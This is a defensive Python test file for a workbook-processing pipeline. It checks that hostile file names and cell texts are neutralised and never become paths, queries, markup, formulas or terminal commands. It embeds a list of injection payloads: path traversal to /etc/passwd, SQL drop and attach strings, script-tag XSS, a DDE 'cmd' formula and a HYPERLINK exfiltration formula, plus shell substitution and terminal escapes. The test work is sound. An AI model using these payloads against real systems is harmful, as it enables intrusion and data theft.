"""Names and texts from outside never become a path, a query, markup, a formula, a line of a log or an order to a terminal."""

from __future__ import annotations

import io
import json
import os
import re
from pathlib import Path, PurePath

import duckdb
import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from pipeline_edits import LANTIAN
from pipeline_support import PERIOD, Register, send_version, small_home, write_sample
from rich.text import Text

from orchestration.audit.receipts.returned import returned_name
from orchestration.cards import load_cards
from orchestration.cli import main
from orchestration.commands.asking import print_json
from orchestration.land.expressions import literal
from orchestration.receive.archive import Archive
from orchestration.receive.inbox import readable, scan
from orchestration.terminal import one_line, terminal

HOSTILE = (
    "../../etc/passwd",
    "..\\..\\windows\\x",
    "'; drop table projects; --",
    "\"; attach '/etc/passwd' as x; --",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "{{7*7}}{% raw %}",
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[bold red]x[/]",
    "\u202egnp.exe",
    "\x9b31m",
    "$(touch x)`touch x`",
    "%s%n{0}",
)
_OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_TEXTS = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=80))
_FILE_NAMES = st.binary(min_size=1, max_size=60).filter(lambda name: not {0, 47} & set(name))


@given(_TEXTS)
def test_a_returned_workbook_lies_in_its_own_folder(name: str):
    returned = returned_name(name)
    assert PurePath(returned).name == returned and returned not in (".", "..")
    assert returned.endswith("_回执.xlsx") and len(returned.encode()) <= 255
    assert not _OBEYED.search(returned) and not set(returned) & set("/\\\n\r\t\"'<>|;&$`=")
    assert not returned.startswith(("-", "~")) or name.lstrip().startswith(("-", "~"))


@given(_FILE_NAMES)
@example(b"a\n2021-09-01 INFO published.xlsx")
@example(b"\x1b]0;x\x07.xlsx")
@example("\u202egnp.exe.xlsx".encode())
@example("蓝田县.xlsx".encode("gbk"))
def test_the_name_of_a_file_is_one_harmless_line(name: bytes):
    shown = readable(Path(os.fsdecode(name)))
    assert len(shown.splitlines()) <= 1 and not _OBEYED.search(shown)
    shown.encode()


def test_a_name_of_another_encoding_stays_readable():
    assert readable(Path(os.fsdecode("蓝田县.xlsx".encode("gbk")))) == "蓝田县.xlsx"
    assert one_line("蓝田县 8月(改).xlsx") == "蓝田县 8月(改).xlsx"


@given(st.text(max_size=30).filter(lambda text: not {"/", "\0"} & set(text)))
@example("sh -c x")
@example("\n../../x")
def test_an_archived_file_lies_under_its_digest_alone(tmp_path_factory: pytest.TempPathFactory, suffix: str):
    folder = tmp_path_factory.mktemp("archive")
    source = folder / f"sent.{suffix}"
    try:
        source.write_bytes(b"x")
    except (OSError, UnicodeEncodeError):
        return  # no file can have that name
    stored = Archive(folder / "archive").store(source)
    assert re.fullmatch(r"[0-9a-f]{2}/[0-9a-f]{64}(\.[a-z0-9]{1,6})?", stored.path)
    assert (folder / "archive" / stored.path).read_bytes() == b"x"


@given(_TEXTS.filter(lambda text: "\0" not in text))
def test_a_literal_is_what_it_says(text: str):
    try:
        text.encode()
    except UnicodeEncodeError:
        return  # no text of a workbook has half a character
    assert duckdb.execute(f"select {literal(text)}").fetchone() == (text,)


@given(_TEXTS)
def test_a_terminal_obeys_nothing_that_it_is_shown(text: str):
    console = terminal()
    console.file = io.StringIO()
    console.print(Text(text), soft_wrap=True)
    assert not _OBEYED.search(console.file.getvalue())


@given(st.lists(_TEXTS, max_size=3))
def test_json_on_a_terminal_says_the_same_and_is_obeyed_in_nothing(texts: list[str]):
    said: list[str] = []
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr("typer.echo", said.append)
        print_json({"texts": texts})
    assert json.loads(said[0]) == {"texts": texts} and not _OBEYED.search(said[0])


def test_links_in_the_inbox_are_not_followed(tmp_path: Path):
    secret = tmp_path / "secret.xlsx"
    secret.write_bytes(b"PK")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "link.xlsx").symlink_to(secret)
    (inbox / "folder").symlink_to(tmp_path)
    os.mkfifo(inbox / "pipe.xlsx")
    assert scan(inbox).files == []


@pytest.fixture
def checked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> tuple[Path, str]:
    """The receipt of a workbook with hostile texts where they are at fault and repeated, and what was printed."""
    home = small_home(tmp_path / "home")
    write_sample(home.inbox)
    monkeypatch.setenv("ZHENXING_HOME", str(home.root))
    at_fault = {"total_funds": HOSTILE[4:6], "started_on": HOSTILE[5:7], "status": HOSTILE[7:]}

    def spoil(workbook: openpyxl.Workbook) -> None:
        card = load_cards()["projects"]
        register = Register(workbook[card.sheet], card)
        for column, texts in at_fault.items():
            for row, text in zip(register.rows, texts, strict=False):
                register.write(row, column, f"'{text}" if text.startswith("=") else text)
        workbook.create_sheet("项目库 '<b>{1}")
        workbook.create_sheet(HOSTILE[2])

    send_version(home, LANTIAN, 2, {}, spoil)
    sent = home.inbox / f"{LANTIAN}_蓝田县_{PERIOD}_v2.xlsx"
    named = sent.rename(tmp_path / "=cmd <script>alert(1)<∕script>'; drop.xlsx")
    capsys.readouterr()
    assert main(["check", str(named), "--out", str(tmp_path / "out")]) == 1
    return tmp_path / "out", capsys.readouterr().out


def test_a_receipt_repeats_hostile_texts_as_texts(checked: tuple[Path, str]):
    out, said = checked
    (folder,) = out.iterdir()
    page = next(folder.glob("*.html")).read_text()
    assert "&lt;img src=x" in page and "&lt;script&gt;alert" in page
    assert "<img src=x" not in page and "<script>alert" not in page and "</script><script>" not in page
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert not _OBEYED.search(said)
    assert all(path.resolve().is_relative_to(out.resolve()) for path in out.rglob("*"))
    marked = openpyxl.load_workbook(next(folder.glob("*.xlsx")))
    formulas = [
        cell.value for sheet in marked for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert [formula for formula in formulas if "HYPERLINK" in str(formula) or "cmd" in str(formula)] == []
